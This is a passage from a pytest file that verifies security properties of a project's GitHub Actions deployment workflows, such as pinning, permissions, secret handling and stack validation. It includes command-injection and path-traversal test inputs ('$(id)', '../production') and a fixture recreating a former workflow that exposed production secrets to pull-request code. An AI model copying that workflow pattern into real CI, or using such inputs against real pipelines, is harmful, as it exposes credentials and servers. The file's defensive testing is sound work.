"""The GitHub workflows: actionlint clean, and the safety properties a team copying them relies on."""

import copy
import functools
import itertools
import json
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.conftest import PROJECT_DIR
from tests.real.servers import PingRecorder
from tests.test_stacks_list import REFUSED

WORKFLOWS = PROJECT_DIR / ".github" / "workflows"
WORKFLOW_NAMES = ["check.yml", "deploy.yml", "pr-stack.yml", "preview.yml"]
STACK_LIST = Path(".github") / "stacks.json"
ACTIONLINT = Path(sys.executable).parent / "actionlint"
PINNED = re.compile(r"^[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}$")
SECRET = re.compile(r"\$\{\{\s*secrets\.")


def parse(text: str) -> dict[Any, Any]:
    workflow: dict[Any, Any] = yaml.safe_load(text)
    # YAML 1.1 reads the key `on` as True.
    workflow["on"] = workflow.pop(True, workflow.get("on"))
    return workflow


def load(name: str) -> dict[Any, Any]:
    return parse((WORKFLOWS / name).read_text())


def steps(workflow: dict[Any, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    for job_name, job in workflow["jobs"].items():
        for step in job.get("steps", []):
            yield job_name, step


def pulumi_steps(workflow: dict[Any, Any]) -> list[tuple[str, dict[str, Any]]]:
    """Steps that run a Pulumi command (the action without one only installs the CLI)."""
    return [
        (job, step)
        for job, step in steps(workflow)
        if step.get("uses", "").startswith("pulumi/actions@") and "command" in step.get("with", {})
    ]


def named_step(workflow: dict[Any, Any], job: str, name: str) -> dict[str, Any]:
    found: list[dict[str, Any]] = [step for step in workflow["jobs"][job]["steps"] if step.get("name") == name]
    (step,) = found
    return step


def all_workflows() -> list[str]:
    return sorted(path.name for path in WORKFLOWS.glob("*.yml"))


def listed(tree: Path = PROJECT_DIR) -> list[dict[str, str]]:
    stacks: list[dict[str, str]] = json.loads((tree / STACK_LIST).read_text())["stacks"]
    return stacks


LISTED = listed()
ENVIRONMENT_OF = {stack["name"]: stack["environment"] for stack in LISTED}
# The GitHub environments of production stacks: each named after its stack, with required reviewers (README).
PRODUCTION_ENVIRONMENTS = frozenset(name for name, environment in ENVIRONMENT_OF.items() if environment == "production")
PULL_REQUEST_STACKS = "pull-request-stacks"


def shell(workflow: dict[Any, Any]) -> list[str]:
    """How GitHub runs a `run:` script: `bash -e`, or with `shell: bash` also without profiles and with pipefail."""
    if (workflow.get("defaults") or {}).get("run", {}).get("shell") == "bash":
        return ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c"]
    return ["bash", "-e", "-c"]


def fake_commands(directory: Path, commands: Mapping[str, str]) -> Path:
    """Stand-ins for commands a script calls (pulumi, gh, make...): bash bodies in a directory put first on PATH."""
    directory.mkdir(parents=True, exist_ok=True)
    for name, body in commands.items():
        (directory / name).write_text(f"#!/bin/bash\n{body}\n")
        (directory / name).chmod(0o755)
    return directory


def run_script(
    workflow: dict[Any, Any], step: dict[str, Any], cwd: Path, env: Mapping[str, str], fakes: Path | None = None
) -> tuple[subprocess.CompletedProcess[str], dict[str, str]]:
    """Run a step's script as GitHub would; its exit status and the outputs it wrote to GITHUB_OUTPUT."""
    scratch = cwd / ".github-files"
    scratch.mkdir(exist_ok=True)
    output, summary = scratch / "output", scratch / "summary"
    output.write_text("")
    path = f"{fakes}:/usr/bin:/bin" if fakes else "/usr/bin:/bin"
    result = subprocess.run(
        [*shell(workflow), step["run"]], cwd=cwd, capture_output=True, text=True, check=False,
        env={"PATH": path, "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(summary), **env},
    )  # fmt: skip
    outputs = dict(line.split("=", 1) for line in output.read_text().splitlines() if "=" in line)
    return result, outputs


def test_the_four_workflows_exist() -> None:
    assert all_workflows() == WORKFLOW_NAMES


def test_actionlint_is_clean() -> None:
    result = subprocess.run(
        [str(ACTIONLINT), *map(str, WORKFLOWS.glob("*.yml"))], capture_output=True, text=True, check=False
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_actionlint_is_really_checking(tmp_path: Path) -> None:
    broken = tmp_path / ".github" / "workflows"
    broken.mkdir(parents=True)
    (broken / "bad.yml").write_text(
        "on: push\njobs:\n  x:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo ${{ github.nope }\n"
    )
    result = subprocess.run([str(ACTIONLINT), str(broken / "bad.yml")], capture_output=True, text=True, check=False)
    assert result.returncode != 0


@pytest.mark.parametrize("name", WORKFLOW_NAMES)
def test_every_action_is_pinned_to_a_commit(name: str) -> None:
    text = (WORKFLOWS / name).read_text()
    for job, step in steps(load(name)):
        if "uses" in step:
            assert PINNED.match(step["uses"]), f"{name} {job}: {step['uses']}"
            assert re.search(re.escape(step["uses"]) + r" # v\d", text), f"{step['uses']} lacks its version comment"


# What each job may be granted: read the code, and no more, but for these.
PERMISSIONS = {
    # Comments the preview on the pull request.
    ("preview.yml", "staging"): {"contents": "read", "pull-requests": "write"},
    # Reads the pull request and compares it with its base, for the reviewer (no code of it, no secret).
    ("pr-stack.yml", "pull-request"): {"pull-requests": "read", "contents": "read"},
    # Runs the pull request's code: the token only reads, and is not left in the checkout.
    ("pr-stack.yml", "stack"): {"contents": "read"},
    # Label the pull request `pr-stack` once its deploy was approved, and unlabel it once destroyed.
    ("pr-stack.yml", "label"): {"issues": "write"},
    ("pr-stack.yml", "untrack"): {"issues": "write"},
    # Starts the destroy runs of closed pull requests (no code of them, no secret).
    ("pr-stack.yml", "closed"): {"actions": "write", "pull-requests": "read"},
}


@pytest.mark.parametrize("name", WORKFLOW_NAMES)
def test_no_job_has_more_permissions_than_it_needs(name: str) -> None:
    workflow = load(name)
    assert workflow["permissions"] in ({}, {"contents": "read"})
    for job_name, job in workflow["jobs"].items():
        allowed = PERMISSIONS.get((name, job_name), {"contents": "read"})
        granted = job.get("permissions", workflow["permissions"])
        assert set(granted.items()) <= set(allowed.items()), f"{name} {job_name}: {granted}"


@pytest.mark.parametrize("name", WORKFLOW_NAMES)
def test_no_secret_is_echoed(name: str) -> None:
    for job, step in steps(load(name)):
        script = step.get("run", "")
        # Secrets reach scripts only through `env:`, never expanded into the script text.
        assert not SECRET.search(script), f"{name} {job}: a secret is expanded into a script"
        secret_variables = [key for key, value in step.get("env", {}).items() if SECRET.search(str(value))]
        for variable in secret_variables:
            for line in script.splitlines():
                assert not re.search(rf"\b(echo|printf|cat)\b.*\${{?{variable}\b", line), f"{name} {job}: {line}"
        assert "set -x" not in script


def check_step(name: str) -> dict[str, Any]:
    return named_step(load("check.yml"), "test", name)


PREVIEW_STEP = "Offline preview of every listed stack, with the policy pack"
DIFF_STEP = "What the pull request would change in each listed stack, offline"


def base_branch(tree: Path, base: Any) -> None:
    """A git repository in `tree` whose `origin/main` holds `base` as .github/stacks.json (None: no list there)."""
    git = ["git", "-C", str(tree), "-c", "user.name=CI", "-c", "user.email=ci@example.com"]
    tree.mkdir(parents=True, exist_ok=True)
    subprocess.run([*git, "init", "-q"], check=True)
    (tree / ".github").mkdir(exist_ok=True)
    if base is not None:
        (tree / STACK_LIST).write_text(base if isinstance(base, str) else json.dumps({"stacks": base}))
        subprocess.run([*git, "add", str(STACK_LIST)], check=True)
    subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "base"], check=True)
    subprocess.run([*git, "update-ref", "refs/remotes/origin/main", "HEAD"], check=True)


def run_over_the_list(
    step: dict[str, Any],
    tmp_path: Path,
    failing_stack: str | None,
    stacks: list[dict[str, str]] = LISTED,
    *,
    base: Any = LISTED,
    event: str = "pull_request",
) -> tuple[subprocess.CompletedProcess[str], str]:
    """Run a check.yml step that goes over the list, with a stand-in `make` that fails for one stack: in a run of
    `event` (its `env:` evaluated as GitHub would), on a pull request whose base branch, `origin/main`, lists `base`
    (None: no list; a string: that text)."""
    base_branch(tmp_path, base)
    (tmp_path / STACK_LIST).write_text(json.dumps({"stacks": stacks}))
    fakes = fake_commands(
        tmp_path / "bin",
        {
            "make": 'echo "make $*"\n'
            f'[[ " $* " != *" STACK={failing_stack} "* ]] || {{ echo "REPLACE server" >&2; exit 1; }}'
        },
    )
    context = {"github.event_name": event, "github.base_ref": "main" if event == "pull_request" else ""}
    env = {key: interpolate(str(value), context) for key, value in step.get("env", {}).items()}
    result, _ = run_script(load("check.yml"), step, tmp_path, env, fakes)
    summary = tmp_path / ".github-files" / "summary"
    return result, summary.read_text() if summary.exists() else ""


def test_the_check_needs_no_secret_and_previews_every_listed_stack(tmp_path: Path) -> None:
    workflow = load("check.yml")
    assert set(workflow["on"]) == {"pull_request", "push"}
    assert not SECRET.search((WORKFLOWS / "check.yml").read_text())
    scripts = "\n".join(step.get("run", "") for _, step in steps(workflow))
    assert "make test" in scripts
    result, _ = run_over_the_list(check_step(PREVIEW_STEP), tmp_path, None)
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == [f"make preview STACK={stack['name']}" for stack in LISTED]


@pytest.mark.parametrize("failing_stack", [stack["name"] for stack in LISTED])
def test_one_stack_failing_its_preview_fails_the_check_after_all_are_previewed(
    tmp_path: Path, failing_stack: str
) -> None:
    result, _ = run_over_the_list(check_step(PREVIEW_STEP), tmp_path, failing_stack)
    assert result.returncode == 1
    assert result.stdout.splitlines() == [f"make preview STACK={stack['name']}" for stack in LISTED]


def test_a_stack_added_to_the_list_is_previewed_and_diffed(tmp_path: Path) -> None:
    dev = {"name": "dev", "environment": "staging", "deploy": "push"}
    result, _ = run_over_the_list(check_step(PREVIEW_STEP), tmp_path, None, [*LISTED, dev])
    assert "make preview STACK=dev" in result.stdout.splitlines()
    result, summary = run_over_the_list(check_step(DIFF_STEP), tmp_path, None, [*LISTED, dev])
    assert "make -s diff STACK=dev REF=origin/main" in summary


def make_calls(result: subprocess.CompletedProcess[str]) -> list[str]:
    return [line for line in result.stdout.splitlines() if line.startswith("make ")]


def expected_calls(step_name: str, names: list[str]) -> list[str]:
    return [
        f"make preview STACK={name}" if step_name == PREVIEW_STEP else f"make -s diff STACK={name} REF=origin/main"
        for name in names
    ]


# Finding 7: a pull request that dropped production from the list dropped production's preview and diff, its gate.
@pytest.mark.parametrize("step_name", [PREVIEW_STEP, DIFF_STEP])
def test_a_stack_a_pull_request_drops_from_the_list_is_still_checked(tmp_path: Path, step_name: str) -> None:
    kept = [stack for stack in LISTED if stack["name"] != "production"]
    dev = {"name": "dev", "environment": "staging", "deploy": "push"}
    names = [stack["name"] for stack in kept]
    # The pull request's list first, then what only its base branch lists.
    result, _ = run_over_the_list(check_step(step_name), tmp_path / "ok", None, [*kept, dev])
    assert result.returncode == 0, result.stdout + result.stderr
    assert make_calls(result) == expected_calls(step_name, [*names, "dev", "production"])
    # And production's failure, its deletion say, still fails the check.
    result, _ = run_over_the_list(check_step(step_name), tmp_path / "fails", "production", kept)
    assert result.returncode == 1
    assert make_calls(result) == expected_calls(step_name, [*names, "production"])


def test_a_push_previews_its_own_list(tmp_path: Path) -> None:
    kept = [stack for stack in LISTED if stack["name"] != "production"]
    result, _ = run_over_the_list(check_step(PREVIEW_STEP), tmp_path, None, kept, event="push")
    assert result.returncode == 0, result.stderr
    assert make_calls(result) == expected_calls(PREVIEW_STEP, [stack["name"] for stack in kept])
    # Both steps read the base branch the same way: in a pull request, on its base.
    for step_name in (PREVIEW_STEP, DIFF_STEP):
        assert check_step(step_name)["env"] == {
            "EVENT": "${{ github.event_name }}",
            "BASE": "origin/${{ github.base_ref }}",
        }


@pytest.mark.parametrize("step_name", [PREVIEW_STEP, DIFF_STEP])
def test_the_base_branchs_list_is_read_or_the_check_fails(tmp_path: Path, step_name: str) -> None:
    # A base branch from before the list adds none.
    result, _ = run_over_the_list(check_step(step_name), tmp_path / "before", None, base=None)
    assert result.returncode == 0, result.stdout + result.stderr
    assert make_calls(result) == expected_calls(step_name, [stack["name"] for stack in LISTED])
    # An unreadable one stops the check before any stack.
    result, _ = run_over_the_list(check_step(step_name), tmp_path / "unreadable", None, base="{not json")
    assert result.returncode != 0 and make_calls(result) == []
    # As does a base branch that is not there to compare with.
    tree = tmp_path / "no-base"
    run_over_the_list(check_step(step_name), tree, None)
    subprocess.run(["git", "-C", str(tree), "update-ref", "-d", "refs/remotes/origin/main"], check=True)
    env = {"EVENT": "pull_request", "BASE": "origin/main"}
    result, _ = run_script(load("check.yml"), check_step(step_name), tree, env, tree / "bin")
    assert result.returncode == 1 and "origin/main, the base branch, is not here" in result.stdout
    assert make_calls(result) == []


def test_an_unreadable_list_fails_the_check(tmp_path: Path) -> None:
    (tmp_path / ".github").mkdir()
    (tmp_path / STACK_LIST).write_text("{not json")
    fakes = fake_commands(tmp_path / "bin", {"make": 'echo "make $*"'})
    for step in (check_step(PREVIEW_STEP), check_step(DIFF_STEP)):
        result, _ = run_script(load("check.yml"), step, tmp_path, {"BASE": "origin/main"}, fakes)
        assert result.returncode != 0 and "make" not in result.stdout


def test_pull_requests_preview_staging_for_real_and_production_offline(tmp_path: Path) -> None:
    workflow = load("preview.yml")
    assert set(workflow["on"]) == {"pull_request"}
    (job,) = workflow["jobs"].values()
    assert job["if"] == "github.event.pull_request.head.repo.full_name == github.repository"
    assert job["environment"] == "staging-preview"
    ((_, step),) = pulumi_steps(workflow)
    settings = step["with"]
    assert settings["command"] == "preview"
    assert settings["stack-name"] == "staging"
    assert settings["policyPacks"] == "policies"
    assert settings["policyPackConfigs"] == "policies/config/staging.json"
    assert settings["comment-on-pr"] is True
    assert "READ_TOKEN" in step["env"]["HCLOUD_TOKEN"]
    # Production, which no pull request may hold a secret of, is previewed offline by check.yml, policies included.
    assert "production" in ENVIRONMENT_OF
    result, _ = run_over_the_list(check_step(PREVIEW_STEP), tmp_path, None)
    assert "make preview STACK=production" in result.stdout.splitlines()
    assert "make -s diff" in check_step(DIFF_STEP)["run"]


def test_every_up_passes_the_policy_pack_of_its_stack() -> None:
    workflow = load("deploy.yml")
    found: dict[str, set[str]] = {}
    for job, step in pulumi_steps(workflow):
        settings = step["with"]
        assert settings["command"] == "up"
        assert settings["policyPacks"] == "policies"
        assert settings["stack-name"] == "${{ matrix.stack }}"
        assert settings["policyPackConfigs"] == "${{ matrix.policy-config }}"
        for _, entry in instances(workflow, job):
            # The stack's own configuration if it has one, else its environment's (tests/test_stacks_list.py).
            own = f"policies/config/{entry['stack']}.json"
            expected = (
                own if (PROJECT_DIR / own).is_file() else f"policies/config/{ENVIRONMENT_OF[entry['stack']]}.json"
            )
            assert entry["policy-config"] == expected
            found.setdefault(job, set()).add(entry["stack"])
    # Each job deploys the stacks of its environment, every listed stack is deployed by one of them.
    assert found == {
        environment: {name for name, of in ENVIRONMENT_OF.items() if of == environment}
        for environment in ("staging", "production")
    }


def test_a_stack_with_its_own_policy_configuration_is_deployed_with_it(tmp_path: Path) -> None:
    tree = stack_tree(tmp_path, extra={"name": "dev", "environment": "staging", "deploy": "push"})
    (tree / "policies" / "config" / "dev.json").write_text("{}")
    entries = {entry["stack"]: entry for _, entry in instances(load("deploy.yml"), "staging", tree)}
    assert entries["dev"]["policy-config"] == "policies/config/dev.json"
    assert entries["staging"]["policy-config"] == "policies/config/staging.json"


def test_stacks_listed_push_deploy_on_push_to_main() -> None:
    workflow = load("deploy.yml")
    assert workflow["on"]["push"] == {"branches": ["main"]}
    on_push = {
        entry["stack"]
        for job in ("staging", "production")
        for context, entry in instances(workflow, job)
        if context["github.event_name"] == "push"
    }
    assert on_push == {stack["name"] for stack in LISTED if stack["deploy"] == "push"}


def test_production_needs_its_environment_and_the_typed_confirmation() -> None:
    workflow = load("deploy.yml")
    assert "push" in workflow["on"] and workflow["on"]["workflow_dispatch"]["inputs"]["confirm"]["type"] == "string"
    production = workflow["jobs"]["production"]
    assert production["environment"] == "${{ matrix.stack }}"
    assert environments_of(workflow, "production") == PRODUCTION_ENVIRONMENTS == {"production"}
    assert production["needs"] == "stacks"
    assert production["if"] == (
        "github.ref == 'refs/heads/main' && github.event_name == 'workflow_dispatch'"
        " && needs.stacks.outputs.production != '[]'"
    )
    confirm = named_step(workflow, "stacks", CONFIRM_STEP)
    assert confirm["env"] == {"MANUAL": "${{ steps.select.outputs.manual }}", "CONFIRM": "${{ inputs.confirm }}"}
    assert '[[ "$MANUAL" != false && "$CONFIRM" != DEPLOY ]]' in confirm["run"] and "exit 1" in confirm["run"]


CHECK_STEP = "Check the list of stacks"
SELECT_STEP = "The stacks this run deploys"
CONFIRM_STEP = "Require the typed confirmation for a manual or production stack"


@pytest.mark.parametrize("confirmation", ["DEPLOY", "deploy", "", "DEPLOY "])
@pytest.mark.parametrize("manual", ["true", "false", ""])
def test_the_confirmation_script_accepts_exactly_deploy_for_a_manual_stack(
    tmp_path: Path, confirmation: str, manual: str
) -> None:
    workflow = load("deploy.yml")
    result, _ = run_script(
        workflow, named_step(workflow, "stacks", CONFIRM_STEP), tmp_path, {"MANUAL": manual, "CONFIRM": confirmation}
    )
    assert (result.returncode == 0) is (confirmation == "DEPLOY" or manual == "false")


def stack_tree(tmp_path: Path, document: Any = None, extra: dict[str, str] | None = None) -> Path:
    """What the `stacks` job reads (the list, the stack files, the policy configurations), with the list changed."""
    tree = tmp_path / "tree"
    (tree / ".github").mkdir(parents=True)
    shutil.copytree(PROJECT_DIR / "policies" / "config", tree / "policies" / "config")
    for stack_file in PROJECT_DIR.glob("Pulumi.*.yaml"):
        shutil.copy(stack_file, tree)
    if extra:
        document = {"stacks": [*LISTED, extra]}
        (tree / f"Pulumi.{extra['name']}.yaml").write_text("config: {}\n")
    (tree / STACK_LIST).write_text(json.dumps(document if document is not None else {"stacks": LISTED}))
    return tree


def test_the_deploy_checks_the_list_before_anything_deploys(tmp_path: Path) -> None:
    workflow = load("deploy.yml")
    step = named_step(workflow, "stacks", CHECK_STEP)
    result, _ = run_script(workflow, step, stack_tree(tmp_path), {})
    assert result.returncode == 0, result.stdout + result.stderr
    # Every deploy job waits for that check.
    assert {name: job.get("needs") for name, job in workflow["jobs"].items()} == {
        "stacks": None,
        "staging": "stacks",
        "production": "stacks",
    }


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_the_deploy_refuses_what_the_rules_refuse(tmp_path: Path, case: str) -> None:
    document, phrase = REFUSED[case]
    workflow = load("deploy.yml")
    result, _ = run_script(workflow, named_step(workflow, "stacks", CHECK_STEP), stack_tree(tmp_path, document), {})
    assert result.returncode == 1, result.stdout + result.stderr
    assert phrase in result.stdout and "::error file=.github/stacks.json::" in result.stdout, result.stdout


@pytest.mark.parametrize("stack", [None, "", "nope", "staging production", "$(id)", "../production"])
def test_a_stack_started_by_hand_must_be_listed(tmp_path: Path, stack: str | None) -> None:
    workflow = load("deploy.yml")
    result, outputs = run_script(
        workflow,
        named_step(workflow, "stacks", SELECT_STEP),
        stack_tree(tmp_path),
        {"EVENT": "workflow_dispatch", "STACK": stack or ""},
    )
    assert result.returncode == 1 and "must be a stack listed" in result.stdout
    assert outputs == {}


def test_each_stack_deploys_one_run_at_a_time() -> None:
    deploy = load("deploy.yml")
    groups = {}
    for job in ("staging", "production"):
        assert deploy["jobs"][job]["concurrency"] == {
            "group": "pulumi-${{ matrix.stack }}",
            "cancel-in-progress": False,
        }
        groups.update({entry["stack"]: f"pulumi-{entry['stack']}" for _, entry in instances(deploy, job)})
    assert groups == {stack: f"pulumi-{stack}" for stack in ENVIRONMENT_OF}
    # A pull request's stack too; its group cannot be a listed stack's: `pr-*` names are refused in the list.
    stack_job = load("pr-stack.yml")["jobs"]["stack"]
    assert stack_job["concurrency"] == {
        "group": "pulumi-pr-${{ needs.pull-request.outputs.number }}",
        "cancel-in-progress": False,
    }
    assert not any(stack.startswith("pr-") for stack in ENVIRONMENT_OF)


def test_each_deploy_ends_with_a_smoke_check() -> None:
    for workflow, job in (("deploy.yml", "staging"), ("deploy.yml", "production"), ("pr-stack.yml", "stack")):
        deploy_steps = load(workflow)["jobs"][job]["steps"]
        up = [index for index, step in enumerate(deploy_steps) if step.get("with", {}).get("command") == "up"]
        last = deploy_steps[up[0] + 1] if workflow == "pr-stack.yml" else deploy_steps[-1]
        assert last["name"] == "Smoke check"
        assert ".ci/smoke-check" in last["run"]
        assert last["env"]["SSH_TARGET"] == "${{ steps.pulumi.outputs.sshCommand }}"
        # Pinned to the key the stack recorded (tests/test_smoke_check.py shows another one refused).
        assert last["env"]["SSH_HOST_KEY"] == "${{ steps.pulumi.outputs.serverHostKey }}"


def smoke(*urls: str, attempts: int = 3) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(PROJECT_DIR / ".ci" / "smoke-check"), *urls], capture_output=True, text=True, check=False,
        env={"PATH": "/usr/bin:/bin", "ATTEMPTS": str(attempts), "DELAY": "0.2"},
    )  # fmt: skip


def test_the_smoke_check_passes_healthy_urls_and_fails_broken_ones() -> None:
    recorder = PingRecorder()
    try:
        healthy = smoke(recorder.url, f"{recorder.url}/api/health")
        assert healthy.returncode == 0, healthy.stderr
        assert recorder.paths == ["/ping", "/ping/api/health"]
    finally:
        recorder.close()
    broken = smoke("http://127.0.0.1:1/health")
    assert broken.returncode == 1
    assert "http://127.0.0.1:1/health did not answer with 2xx after 3 attempts" in broken.stderr


def test_the_smoke_check_waits_for_a_service_that_comes_up() -> None:
    late = PingRecorder(start_after=1.0)
    try:
        result = smoke(f"http://127.0.0.1:{late.port}/health", attempts=40)
    finally:
        late.close()
    assert result.returncode == 0, result.stderr
    assert late.paths == ["/health"]


def test_pull_requests_show_what_they_would_change_in_each_stack() -> None:
    workflow = load("check.yml")
    (checkout,) = [step for _, step in steps(workflow) if step.get("uses", "").startswith("actions/checkout@")]
    assert checkout["with"]["fetch-depth"] == 0, "the base branch must be there to compare with"
    (diff,) = [step for _, step in steps(workflow) if "make -s diff" in step.get("run", "")]
    assert diff["if"] == "github.event_name == 'pull_request'"
    assert diff["env"]["BASE"] == "origin/${{ github.base_ref }}"


@pytest.mark.parametrize("failing_stack", [None, *(stack["name"] for stack in LISTED)])
def test_the_diff_step_summarises_every_listed_stack_and_fails_when_any_does(
    tmp_path: Path, failing_stack: str | None
) -> None:
    # A stand-in `make` that reports its arguments and fails for one stack, as a stateful replacement would.
    result, text = run_over_the_list(check_step(DIFF_STEP), tmp_path, failing_stack)
    assert (result.returncode == 0) is (failing_stack is None), result.stdout + result.stderr
    for stack in LISTED:
        assert f"make -s diff STACK={stack['name']} REF=origin/main" in text
    if failing_stack:
        assert "REPLACE server" in text


# Issue 18, finding H1: what a pull request could reach, and the properties that now stop it. Each check below
# returns what it finds wrong in a set of workflows; each test runs it on the workflows of this repository (nothing
# wrong) and on the workflows as they were, or mutated as an attacker or a careless edit would, to show it catches it.
# Where a job's stacks come from .github/stacks.json, the checks run deploy.yml's own `stacks` job on the list (and
# on changed lists) for every way a run can start: what they judge is what GitHub would run.

# preview.yml as it was: a same-repository pull request ran its own program on the deploy runner with the one
# passphrase that decrypts production's deploy key (root on the server) and a read/write key of the state.
ISSUE_18_PREVIEW = parse("""
on:
  pull_request:
permissions: {}
jobs:
  preview:
    if: github.event.pull_request.head.repo.full_name == github.repository
    runs-on: ${{ vars.DEPLOY_RUNNER || 'ubuntu-24.04' }}
    timeout-minutes: 30
    permissions:
      contents: read
      pull-requests: write
    strategy:
      fail-fast: false
      matrix:
        stack: [staging, production]
    concurrency:
      group: pulumi-${{ matrix.stack }}-preview-${{ github.event.pull_request.number }}
      cancel-in-progress: true
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
      - uses: actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065 # v5.6.0
        with:
          python-version: "3.11"
      - name: Program dependencies
        run: make venv
      - uses: pulumi/actions@8e5e406f4007fca908480587cb9893c07090f58d # v7.0.0
        with:
          command: preview
          stack-name: ${{ matrix.stack }}
          cloud-url: ${{ secrets.PULUMI_BACKEND_URL }}
          pulumi-version: 3.272.0
          policyPacks: policies
          policyPackConfigs: policies/config/${{ matrix.stack }}.json
          comment-on-pr: true
          github-token: ${{ secrets.GITHUB_TOKEN }}
        env:
          PULUMI_CONFIG_PASSPHRASE: ${{ secrets.PULUMI_CONFIG_PASSPHRASE }}
          AWS_ACCESS_KEY_ID: ${{ secrets.STATE_ACCESS_KEY_ID }}
          AWS_SECRET_ACCESS_KEY: ${{ secrets.STATE_SECRET_ACCESS_KEY }}
          HCLOUD_TOKEN: ${{ matrix.stack == 'production' && secrets.HCLOUD_READ_TOKEN_PRODUCTION || secrets.HCLOUD_READ_TOKEN_STAGING }}
          CLOUDFLARE_API_TOKEN: ${{ secrets.CLOUDFLARE_READ_TOKEN }}
""")  # noqa: E501


def deploy_secrets(suffix: str) -> frozenset[str]:
    """What the environment of a deployed stack holds: the names carry its environment (or PULL_REQUESTS)."""
    return frozenset(
        {
            "PULUMI_BACKEND_URL",
            f"PULUMI_CONFIG_PASSPHRASE_{suffix}",
            f"STATE_ACCESS_KEY_ID_{suffix}",
            f"STATE_SECRET_ACCESS_KEY_{suffix}",
            "HCLOUD_TOKEN",
            "CLOUDFLARE_API_TOKEN",
            "DEPLOY_SSH_KEY",
        }
    )


# The secrets each GitHub environment holds (README, CI/CD). There are no repository secrets: a job reads only what
# its environment holds, and only once the environment's protection rules pass. Each listed stack has the environment
# named after it, holding its own values under its environment's names; pull-request stacks share one of their own.
ENVIRONMENT_SECRETS = {
    "staging-preview": frozenset(
        {
            "PULUMI_BACKEND_URL",
            "PULUMI_CONFIG_PASSPHRASE_STAGING",
            "STATE_READ_ACCESS_KEY_ID_STAGING",
            "STATE_READ_SECRET_ACCESS_KEY_STAGING",
            "HCLOUD_READ_TOKEN_STAGING",
            "CLOUDFLARE_READ_TOKEN",
        }
    ),
    **{stack: deploy_secrets(environment.upper()) for stack, environment in ENVIRONMENT_OF.items()},
    PULL_REQUEST_STACKS: deploy_secrets("PULL_REQUESTS"),
}
# Environments that hold copies of another's secrets: staging-preview holds staging's passphrase (README).
COPY_OF = {"staging-preview": "staging"}
# GitHub gives every run this one, read-only in a pull request from a fork.
WITHOUT_ENVIRONMENT = frozenset({"GITHUB_TOKEN"})
# Names only the environments of production stacks hold: their passphrase and their state write key.
PRODUCTION_ONLY = (
    deploy_secrets("PRODUCTION")
    - deploy_secrets("STAGING")
    - ENVIRONMENT_SECRETS["staging-preview"]
    - ENVIRONMENT_SECRETS[PULL_REQUEST_STACKS]
)
# Events whose runs execute, or act on, code a pull request proposes.
PULL_REQUEST_EVENTS = frozenset(
    {"pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment", "workflow_run"}
)
# They run in the base repository's context, with its secrets, whatever the pull request changed.
FORBIDDEN_EVENTS = frozenset({"pull_request_target", "workflow_run"})
GITHUB_HOSTED = re.compile(r"^(ubuntu|windows|macos)-(latest|\d+(\.\d+)?)(-arm)?$")
SECRET_NAME = re.compile(r"\bsecrets\.([A-Za-z_]\w*)")
ALL_SECRETS = "<every secret>"
MAIN = "refs/heads/main"
FROM_MAIN = {(MAIN, "push"), (MAIN, "workflow_dispatch")}
# What a run started by hand is given, and what an attacker would give: each listed stack, none, one not listed.
INPUT_VALUES: dict[str, tuple[str | None, ...]] = {
    "stack": (None, *ENVIRONMENT_OF, "nope"),
    "confirm": (None, "DEPLOY", "deploy"),
    "pull-request": ("7",),
    "action": ("deploy", "destroy"),
}
# The job of deploy.yml that reads the list and names the stacks a run deploys.
PLAN_JOB = "stacks"


def events(workflow: dict[Any, Any]) -> set[str]:
    on = workflow["on"]
    return {on} if isinstance(on, str) else set(on)


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def expressions(workflow: dict[Any, Any], job: dict[str, Any]) -> Iterator[str]:
    """Every expression the job evaluates: `${{ }}` anywhere in it or in the workflow's `env`, and `if:` bare."""
    for text in strings([job, workflow.get("env", {})]):
        yield from re.findall(r"\$\{\{(.*?)\}\}", text, flags=re.DOTALL)
    for condition in [job.get("if"), *(step.get("if") for step in job.get("steps", []))]:
        if isinstance(condition, str) and "${{" not in condition:
            yield condition


def secrets_of(workflow: dict[Any, Any], job: dict[str, Any]) -> set[str]:
    names: set[str] = set()
    for expression in expressions(workflow, job):
        named = SECRET_NAME.findall(expression)
        names.update(named)
        # `toJSON(secrets)` or `secrets[...]` reads them all.
        if len(re.findall(r"\bsecrets\b", expression)) > len(named):
            names.add(ALL_SECRETS)
    if job.get("secrets") == "inherit":
        names.add(ALL_SECRETS)
    return names


def evaluate(expression: str, context: Mapping[str, object]) -> object:
    """A GitHub expression of literals, context names, `!`, `==`, `!=`, `&&`, `||` and parentheses.

    Anything else (a function such as `always()`, an unknown context) is an error, so a condition this cannot judge
    fails the test instead of passing it; a function without arguments is known only where the context gives its
    value under its name, `always()` say, as `runs` does for the status functions. Strings compare
    case-insensitively, as GitHub compares them.
    """
    expression = expression.strip().removeprefix("${{").removesuffix("}}")
    tokens: list[str] = re.findall(r"'(?:[^']|'')*'|==|!=|&&|\|\||!|\(|\)|[A-Za-z_][\w.-]*|\S", expression)
    position = 0

    def take() -> str:
        nonlocal position
        position += 1
        return tokens[position - 1]

    def peek() -> str | None:
        return tokens[position] if position < len(tokens) else None

    def primary() -> object:
        token = take()
        if token == "(":
            value = disjunction()
            assert take() == ")", expression
            return value
        if token == "!":
            return not primary()
        if token.startswith("'"):
            return token[1:-1].replace("''", "'")
        if token in ("true", "false", "null"):
            return {"true": True, "false": False, "null": None}[token]
        if peek() == "(" and f"{token}()" in context and tokens[position + 1 : position + 2] == [")"]:
            take(), take()
            return context[f"{token}()"]
        assert peek() != "(", f"{expression}: function {token}() is not understood here"
        assert token in context, f"{expression}: {token} is not in the context the test knows"
        return context[token]

    def comparison() -> object:
        left = primary()
